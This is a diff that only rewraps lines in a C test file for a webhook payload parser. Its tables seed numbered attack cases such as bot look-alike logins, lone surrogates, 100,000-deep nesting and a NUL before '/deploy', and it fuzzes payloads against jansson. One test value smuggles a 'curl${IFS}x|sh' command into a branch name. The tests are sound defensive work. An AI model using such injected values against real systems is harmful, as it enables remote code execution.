@@ -1,5 +1,5 @@
-/* Webhook payloads: what is kept of each, what is left alone, what is refused; every sample payload and
- * seeded damage to it, with jansson as the second opinion on what JSON is. */
+/* Webhook payloads: what is kept of each, what is left alone, what is refused; every sample payload
+ * and seeded damage to it, with jansson as the second opinion on what JSON is. */
 #include "lib/core/event.h"
 
 #include <jansson.h>
@@ -117,7 +117,8 @@ static const struct edit comment_edits[] = {
 	{"action missing", "action", NULL, ERR_USER, NULL},
 	{"action a number", "action", "1", ERR_USER, NULL},
 	{"attack 28: plain issue", "issue.pull_request", NULL, ERR_OK, "not a pull request"},
-	{"attack 28: plain issue, null", "issue.pull_request", "null", ERR_OK, "not a pull request"},
+	{"attack 28: plain issue, null", "issue.pull_request", "null", ERR_OK,
+	 "not a pull request"},
 	{"pull request a text", "issue.pull_request", "\"x\"", ERR_USER, NULL},
 	{"attack 15: no issue", "issue", NULL, ERR_USER, NULL},
 	{"attack 15: issue null", "issue", "null", ERR_USER, NULL},
@@ -132,8 +133,8 @@ static const struct edit comment_edits[] = {
 	{"mannequin", "comment.user.type", "\"Mannequin\"", ERR_OK, "not a person"},
 	{"organisation", "comment.user.type", "\"Organization\"", ERR_OK, "not a person"},
 	{"type missing", "comment.user.type", NULL, ERR_USER, NULL},
-	{"attack 36: look-alike of a bot is a person", "comment.user.login", "\"kfops-bot\"", ERR_OK,
-	 NULL},
+	{"attack 36: look-alike of a bot is a person", "comment.user.login", "\"kfops-bot\"",
+	 ERR_OK, NULL},
 	{"attack 15: ghost", "comment.user", "null", ERR_OK, "the author is gone"},
 	{"attack 15: no user", "comment.user", NULL, ERR_USER, NULL},
 	{"attack 27: sender is another", "sender.id", "1000002", ERR_OK,
@@ -183,8 +184,10 @@ static const struct edit comment_edits[] = {
 	{"installation null", "installation", "null", ERR_OK, NULL},
 	{"installation id as text", "installation.id", "\"1\"", ERR_USER, NULL},
 	{"installation without id", "installation", "{}", ERR_USER, NULL},
-	{"what we do not read may be anything", "issue.labels", "[[{}],null,1e999,-0.0]", ERR_OK, NULL},
-	{"attack 21: association is not even read", "comment.author_association", "{}", ERR_OK, NULL},
+	{"what we do not read may be anything", "issue.labels", "[[{}],null,1e999,-0.0]", ERR_OK,
+	 NULL},
+	{"attack 21: association is not even read", "comment.author_association", "{}", ERR_OK,
+	 NULL},
 };
 
 static const struct edit pull_request_edits[] = {
@@ -202,10 +205,10 @@ static const struct edit pull_request_edits[] = {
 	{"attack 41: branch for a SHA", "pull_request.head.sha", "\"main\"", ERR_USER, NULL},
 	{"SHA-256 repository", "pull_request.head.sha",
 	 "\"5f935077074e3b5b3a3b3a3b3a3b3a3b3a3b3a3b5f935077074e3b5b3a3b3a3b\"", ERR_OK, NULL},
-	{"upper-case SHA", "pull_request.head.sha",
-	 "\"5F935077074E3B5B3A3B3A3B3A3B3A3B3A3B3A3B\"", ERR_USER, NULL},
-	{"attack 49: shell in the branch", "pull_request.base.ref", "\"main\\\";curl${IFS}x|sh;\\\"\"",
-	 ERR_OK, NULL},
+	{"upper-case SHA", "pull_request.head.sha", "\"5F935077074E3B5B3A3B3A3B3A3B3A3B3A3B3A3B\"",
+	 ERR_USER, NULL},
+	{"attack 49: shell in the branch", "pull_request.base.ref",
+	 "\"main\\\";curl${IFS}x|sh;\\\"\"", ERR_OK, NULL},
 	{"branch of controls", "pull_request.base.ref", "\"a\\nb\"", ERR_USER, NULL},
 	{"branch of 255 bytes", "pull_request.base.ref", "@255", ERR_OK, NULL},
 	{"branch of 256 bytes", "pull_request.base.ref", "@256", ERR_USER, NULL},
@@ -370,9 +373,16 @@ static const struct {
 	{"three-byte escape", "\\u2603", "\xe2\x98\x83", 3},
 	{"surrogate pair", "\\ud83d\\ude80!", "\xf0\x9f\x9a\x80!", 5},
 	{"surrogate pair in upper case", "\\uD83D\\uDE80", "\xf0\x9f\x9a\x80", 4},
-	{"attack 16: lone high surrogate", "a\\ud83db", "a\xef\xbf\xbd" "b", 5},
-	{"attack 16: lone low surrogate", "a\\ude80b", "a\xef\xbf\xbd" "b", 5},
-	{"attack 16: two high surrogates", "\\ud83d\\ud83d\\ude80", "\xef\xbf\xbd\xf0\x9f\x9a\x80", 7},
+	{"attack 16: lone high surrogate", "a\\ud83db",
+	 "a\xef\xbf\xbd"
+	 "b",
+	 5},
+	{"attack 16: lone low surrogate", "a\\ude80b",
+	 "a\xef\xbf\xbd"
+	 "b",
+	 5},
+	{"attack 16: two high surrogates", "\\ud83d\\ud83d\\ude80", "\xef\xbf\xbd\xf0\x9f\x9a\x80",
+	 7},
 	{"attack 16: high surrogate at the end", "\\ud83d", "\xef\xbf\xbd", 3},
 	{"attack 16: high surrogate and another escape", "\\ud83d\\n", "\xef\xbf\xbd\n", 4},
 	{"attack 16: NUL before", "\\u0000/deploy", "\0/deploy", 8},
@@ -506,8 +516,10 @@ static void test_depth(void **state)
 		size_t depth;
 		bool object, good;
 	} cases[] = {
-		{"64 arrays", 64, false, true},      {"64 objects", 64, true, true},
-		{"65 arrays", 65, false, false},     {"65 objects", 65, true, false},
+		{"64 arrays", 64, false, true},
+		{"64 objects", 64, true, true},
+		{"65 arrays", 65, false, false},
+		{"65 objects", 65, true, false},
 		{"attack 8: 100,000 arrays", 100000, false, false},
 		{"attack 8: 100,000 objects", 100000, true, false},
 	};
@@ -597,7 +609,8 @@ static void test_is_read(void **state)
 	assert_false(event_is_read(""));
 }
 
-/* The sample payloads whose outcome is not "irrelevant"; of the others the reason, where it matters. */
+/* The sample payloads whose outcome is not "irrelevant"; of the others the reason, where it
+ * matters. */
 static const struct {
 	const char *file;
 	enum event_kind kind;
@@ -664,10 +677,12 @@ static uint32_t next_random(uint32_t *seed)
 	return *seed;
 }
 
-/* One to four changes: a flipped bit, another byte of JSON, a cut, a piece twice. Returns the length. */
+/* One to four changes: a flipped bit, another byte of JSON, a cut, a piece twice. Returns the
+ * length. */
 static size_t damage(char *text, size_t len, uint32_t *seed)
 {
-	static const char bytes[] = "{}[]\",:\\u0-9e.\n\x80\xff" "tfn";
+	static const char bytes[] = "{}[]\",:\\u0-9e.\n\x80\xff"
+				    "tfn";
 
 	for (uint32_t n = next_random(seed) % 4 + 1; n && len > 64; n--) {
 		size_t at = next_random(seed) % len, count = next_random(seed) % 32;
@@ -696,8 +711,9 @@ static size_t damage(char *text, size_t len, uint32_t *seed)
 	return len;
 }
 
-/* What jansson says about a text, and whether its verdict can differ from ours for a known reason: it
- * refuses lone surrogates and numbers that do not fit, and it lets through doubled members and depth. */
+/* What jansson says about a text, and whether its verdict can differ from ours for a known reason:
+ * it refuses lone surrogates and numbers that do not fit, and it lets through doubled members and
+ * depth. */
 static bool agrees_with_jansson(const char *text, size_t len, enum err_class class,
 				const struct err *err)
 {
